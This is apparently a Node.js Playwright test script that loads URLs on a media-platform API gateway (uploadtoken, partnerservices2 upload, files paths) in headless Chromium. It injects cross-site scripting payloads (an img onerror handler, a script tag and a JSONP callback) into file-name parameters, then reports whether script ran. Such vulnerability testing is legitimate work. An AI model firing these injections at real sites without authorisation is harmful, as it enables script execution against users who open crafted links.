// Opens answers that echo attacker-chosen strings in Debian's Chromium (headless), as
// a victim following a link would, and reports whether any script ran on the
// gateway's origin. Usage: node xss_test.mjs BASE KS
// Prints one JSON line: {"pages": [{url, contentType, ran}]}.
import { chromium } from 'playwright-core';

const [base, ks] = process.argv.slice(2);
const payload = '<img src=x onerror="window.__pwned=1;document.title=\'pwned\'">' +
  '<script>window.__pwned=1</script>';
const q = (s) => encodeURIComponent(s);
const urls = [
  `${base}/api_v3/service/uploadtoken/action/add?format=3&ks=${q(ks)}&uploadToken:fileName=${q(payload)}`,
  `${base}/api_v3/service/uploadtoken/action/add?format=1&ks=${q(ks)}&uploadToken:fileName=${q(payload)}`,
  `${base}/api_v3/service/uploadtoken/action/add?format=2&ks=${q(ks)}&uploadToken:fileName=${q(payload)}`,
  `${base}/api_v3/service/uploadtoken/action/add?format=9&callback=${q('alert(1)//')}&ks=${q(ks)}&uploadToken:fileName=${q(payload)}`,
  `${base}/index.php/partnerservices2/upload?ks=${q(ks)}&filename=${q(payload)}`,
  `${base}/files/${q(payload)}`,
];

const browser = await chromium.launch({
  executablePath: process.env.CHROMIUM || '/usr/bin/chromium',
  headless: true,
  args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update',
    '--no-first-run', '--disable-sync', '--disable-quic'],
});
const pages = [];
for (const url of urls) {
  const page = await browser.newPage();
  await page.goto(url);
  await page.waitForTimeout(300);
  const ran = await page.evaluate(() => window.__pwned === 1 || document.title === 'pwned');
  const contentType = await page.evaluate(() => document.contentType);
  pages.push({ url: url.slice(base.length, base.length + 60), contentType, ran });
  await page.close();
}
await browser.close();
console.log(JSON.stringify({ pages }));
